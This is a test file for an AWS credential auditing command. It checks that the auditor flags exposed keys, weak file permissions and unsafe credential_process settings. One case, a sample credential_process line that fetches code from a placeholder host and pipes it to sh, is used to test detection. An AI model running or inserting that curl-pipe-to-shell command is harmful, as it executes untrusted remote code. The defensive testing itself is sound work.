import { chmodSync, mkdirSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { accountOfKey } from '../../../../native-host/features/audit/account-of-key.ts';
import { runAudit } from '../../../../native-host/features/audit/run-audit.ts';
import { writeCatalogue } from '../../../../native-host/features/catalogue/store.ts';
import { command } from '../../../../native-host/programs/cli/commands/audit.ts';
import { runCommand } from '../../../support/credentials/context.ts';
import { corpConfig, type Home, openHome } from '../../../support/credentials/home.ts';

/** Secrets that are in every home below; none may be seen anywhere. */
const SECRET = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';
const LONG = 'AKIAIOSFODNN7EXAMPLE';
const KEYS = `aws_access_key_id = ${LONG}\naws_secret_access_key = ${SECRET}\n`;
const TEMPORARY = `aws_access_key_id = ASIAIOSFODNN7EXAMPLE\naws_secret_access_key = ${SECRET}\naws_session_token = session-secret\n`;
let home: Home;

beforeEach(async () => {
  home = await openHome();
});
afterEach(() => home.close());

interface Found {
  check: string;
  severity: string;
  title: string;
  file: string | null;
  line: number | null;
  fix: string;
}

async function audit(env: Record<string, string> = {}, more = {}) {
  // A folder of its own for `.env`, so that the home's files are not looked at twice.
  const cwd = join(home.home, 'project');
  mkdirSync(cwd, { recursive: true });
  const result = await runCommand(command, { ...home.env, ...env }, { json: true, ...more }, [], { cwd });
  const { findings, skipped, ok }: { findings: Found[]; skipped: unknown[]; ok: boolean } = JSON.parse(
    result.stdout,
  );
  return { ...result, ok, findings, skipped, text: result.stdout };
}

const short = ({ check, severity, file, line }: Found) =>
  `${check} ${severity}${file === null ? '' : ` ${file.slice(home.home.length + 1)}${line === null ? '' : `:${line}`}`}`;

/** A file that only its owner may read, as tools leave them. */
function put(path: string, text: string, mode = 0o600): string {
  const file = home.write(path, text);
  chmodSync(file, mode);
  return file;
}

describe('awsher audit finds', () => {
  it.each<[what: string, prepare: () => Record<string, string> | undefined, expected: string[]]>([
    ['nothing in an empty home', () => undefined, []],
    ['nothing in a good one', () => void put('.aws/config', corpConfig(home.idc)), []],
    [
      'long-term keys in both files',
      () => void [put('.aws/config', `[profile a]\n${KEYS}`), put('.aws/credentials', `[b]\n${KEYS}`)],
      ['keys-in-files high .aws/config:2', 'keys-in-files high .aws/credentials:2'],
    ],
    [
      'a long-term key in the environment',
      () => ({ AWS_ACCESS_KEY_ID: LONG, AWS_SECRET_ACCESS_KEY: SECRET }),
      ['environment-keys high'],
    ],
    [
      'keys in .bashrc, once for a pair',
      () =>
        void put(
          '.bashrc',
          `alias ll=ls\nexport AWS_ACCESS_KEY_ID=${LONG}\nexport AWS_SECRET_ACCESS_KEY="${SECRET}"\n`,
        ),
      ['shell-files high .bashrc:2'],
    ],
    [
      'a key in a comment of .zshrc',
      () => void put('.zshrc', `# old: ${LONG}\n`),
      ['shell-files high .zshrc:1'],
    ],
    [
      'a secret by itself in .profile',
      () => void put('.profile', `export AWS_SECRET_ACCESS_KEY='${SECRET}'\n`),
      ['shell-files high .profile:1'],
    ],
    [
      'keys in fish',
      () => void put('.config/fish/config.fish', `set -gx AWS_ACCESS_KEY_ID ${LONG}\n`),
      ['shell-files high .config/fish/config.fish:1'],
    ],
    [
      'keys in PowerShell',
      () => void put('.config/powershell/profile.ps1', `$Env:AWS_ACCESS_KEY_ID="${LONG}"\n`),
      ['shell-files high .config/powershell/profile.ps1:1'],
    ],
    [
      'nothing in a start-up file that asks for keys',
      () =>
        void put(
          '.bashrc',
          'export AWS_ACCESS_KEY_ID=$(vault read key)\nexport AWS_SECRET_ACCESS_KEY=$SECRET\nexport AWS_PROFILE=dev\n',
        ),
      [],
    ],
    [
      'keys in .env and .envrc in this folder',
      () =>
        void [
          put('project/.env', `A=1\nAWS_ACCESS_KEY_ID=${LONG}\nAWS_SECRET_ACCESS_KEY=${SECRET}\n`),
          put('project/.envrc', `export AWS_SECRET_ACCESS_KEY=${SECRET}\n`),
        ],
      ['dotenv high project/.env:2', 'dotenv high project/.envrc:1'],
    ],
    [
      'backups, with keys and without',
      () => void [put('.aws/credentials.bak', `[a]\n${KEYS}`), put('.aws/config~', '[default]\n')],
      ['backups high .aws/credentials.bak:2', 'backups low .aws/config~'],
    ],
    [
      'keys that others may read',
      () =>
        void put(
          '.aws/credentials',
          `[a]\n${TEMPORARY}x_security_token_expires = 2099-01-01T00:00:00Z\n`,
          0o644,
        ),
      ['modes high .aws/credentials'],
    ],
    [
      'a config that the group may write',
      () => void put('.aws/config', '[default]\n', 0o620),
      ['modes high .aws/config'],
    ],
    [
      'a config that others may write',
      () => void put('.aws/config', '[default]\n', 0o602),
      ['modes high .aws/config'],
    ],
    [
      'temporary keys without an end',
      () => void put('.aws/credentials', `[a]\n${TEMPORARY}`),
      ['without-end low .aws/credentials:2'],
    ],
    [
      'a token without an end',
      () => void put('.aws/sso/cache/x.json', '{"accessToken": "token-secret"}'),
      ['without-end medium .aws/sso/cache/x.json'],
    ],
    [
      'a broken file',
      () => void put('.aws/config', '[default]\nnonsense\n'),
      ['broken-files medium .aws/config:2'],
    ],
    [
      'a portal named by the profile',
      () =>
        void put(
          '.aws/config',
          '[profile a]\nsso_account_id = 111122223333\nsso_role_name = A\nsso_region = x\nsso_start_url = https://d-1.awsapps.com/start\n',
        ),
      ['could-be-sso low .aws/config:5'],
    ],
    [
      'an unencrypted endpoint',
      () => ({ AWS_ENDPOINT_URL_S3: 'http://storage.example.com' }),
      ['endpoints medium'],
    ],
  ])('%s', async (_what, prepare, expected) => {
    const env = prepare() ?? {};
    const { findings, skipped, text, code, ok } = await audit(env);
    expect(findings.map(short).sort()).toEqual([...expected].sort());
    expect(skipped).toEqual([]);
    for (const { fix, title } of findings) expect(fix && title).toBeTruthy();
    for (const secret of [SECRET, LONG, 'token-secret', 'session-secret']) expect(text).not.toContain(secret);
    const bad = findings.some(({ severity }) => severity !== 'low');
    expect([code, ok]).toEqual(bad ? [1, false] : [0, true]);
  });

  it.each<[what: string, line: (home: string) => string, expected: RegExp[]]>([
    ['nothing odd in a program of root’s', () => '/bin/cat /dev/null', []],
    [
      'a download that runs',
      () => '/bin/sh -c "curl -s https://x.example/give | sh"',
      [/^critical .*downloads into a shell/, /^medium .*written into the line/],
    ],
    ['a pipe', () => '/bin/cat /x | jq .', [/^medium .*to a shell and others do not/]],
    ['a name without a path', () => 'vault get', [/^low .*comes first in PATH/]],
    ['a tilde', () => '~/bin/vault get', [/^low .*~ or a variable/]],
    ['a relative path', () => './vault get', [/^high .*relative path/]],
    [
      'a folder for temporary files',
      () => '/var/tmp/awsher-no-such-vault get',
      [/^high .*temporary folder/, /^low .*does not exist/],
    ],
    [
      'a secret in the line',
      () => '/bin/cat --password=hunter2-secret',
      [/^high .*secret in its command line/],
    ],
    [
      'a program that anybody may replace',
      (path) => `${path}/open/vault`,
      [/^critical .*anyone on this machine can replace/],
    ],
  ])('%s', async (_what, line, expected) => {
    put('open/vault', '#!/bin/sh\n', 0o777);
    chmodSync(dirname(put('open/vault', '#!/bin/sh\n', 0o777)), 0o700);
    put('.aws/config', `[profile a]\ncredential_process = ${line(home.home)}\n`);
    const { findings, text } = await audit();
    const told = findings.map(({ severity, title }) => `${severity} ${title}`);
    expect(told).toHaveLength(expected.length);
    for (const pattern of expected) expect(told.some((one) => pattern.test(one))).toBe(true);
    expect(text).not.toContain('hunter2-secret');
  });

  it('a profile whose account a session offers, by the key itself or by its role', async () => {
    // The account is in the key id: a published example of how to read it.
    expect(accountOfKey('ASIAQNZGKIQY56JQ7WML')).toBe('029608264753');
    expect(accountOfKey(LONG)).toBeUndefined();
    const key = 'AKIAQNZGKIQY56JQ7WML';
    put(
      '.aws/config',
      corpConfig(home.idc, '[profile up]\nrole_arn = arn:aws:iam::444455556666:role/R\nsource_profile = k\n'),
    );
    put('.aws/credentials', `[k]\naws_access_key_id = ${key}\naws_secret_access_key = ${SECRET}\n`);
    const account = (accountId: string, roles: string[]) => ({
      accountId,
      accountName: 'a',
      emailAddress: 'a@x',
      roles,
      rolesAsOf: 1,
      problem: null,
    });
    writeCatalogue(home.paths, {
      session: 'corp',
      startUrl: home.idc.startUrl,
      region: home.idc.region,
      accountsAsOf: 1,
      accounts: [account('029608264753', ['Admin', 'ReadOnly']), account('444455556666', [])],
    });
    const { findings } = await audit();
    const told = findings.filter(({ check }) => check === 'could-be-sso');
    expect(told.map(short)).toEqual([
      'could-be-sso medium .aws/credentials:2',
      expect.stringMatching(/^could-be-sso low .aws\/config:\d+$/),
    ]);
    expect(told[0]?.title).toContain('session corp offers account 029608264753 as Admin, ReadOnly');
  });
});

describe('awsher audit', () => {
  it('ends with 1 from the severity on that --fail-on names', async () => {
    put('.aws/credentials', `[a]\n${TEMPORARY}`);
    expect((await audit()).code).toBe(0);
    expect((await audit({}, { failOn: 'low' })).code).toBe(1);
    put('.aws/credentials', `[a]\n${KEYS}`);
    expect((await audit()).code).toBe(1);
    expect((await audit({}, { failOn: 'critical' })).code).toBe(0);
    expect((await audit({}, { failOn: 'never' })).code).toBe(0);
  });

  it('goes on when a check cannot be made', async () => {
    mkdirSync(join(home.home, '.aws', 'config'), { recursive: true });
    mkdirSync(join(home.home, '.bashrc'));
    put('.aws/credentials', `[a]\n${KEYS}`);
    const { findings, skipped } = await audit();
    expect(skipped).toEqual([
      { check: 'broken-files', reason: expect.stringContaining('config is not a regular file') },
    ]);
    expect(findings.map(short)).toEqual(['keys-in-files high .aws/credentials:2']);
    const broken = {
      id: 'x',
      about: 'x',
      run: () => {
        throw new Error('secret inside');
      },
    };
    const context = {
      paths: home.paths,
      env: {},
      platform: 'linux',
      cwd: '/',
      uid: 0,
      config: { profiles: new Map(), ssoSessions: new Map(), services: new Map() },
    };
    expect(JSON.stringify(runAudit(context, [broken]))).not.toContain('secret inside');
  });

  it('says it in words: severity, place, fix, and how many', async () => {
    put('.aws/credentials', `[a]\n${KEYS}`);
    const { stdout, stderr } = await runCommand(command, home.env, {}, [], { cwd: '/' });
    expect(stdout).toMatch(
      /^high {6}Long-term key AKIA…MPLE of profile a, in plain text\s+~\/\.aws\/credentials:2\n {10}→ sign in/,
    );
    expect(stderr).toBe('1 finding: 1 high\n');
    put('.aws/credentials', '');
    expect((await runCommand(command, home.env, {}, [], { cwd: '/' })).stderr).toBe(
      '✓ nothing found in 12 checks\n',
    );
  });
});
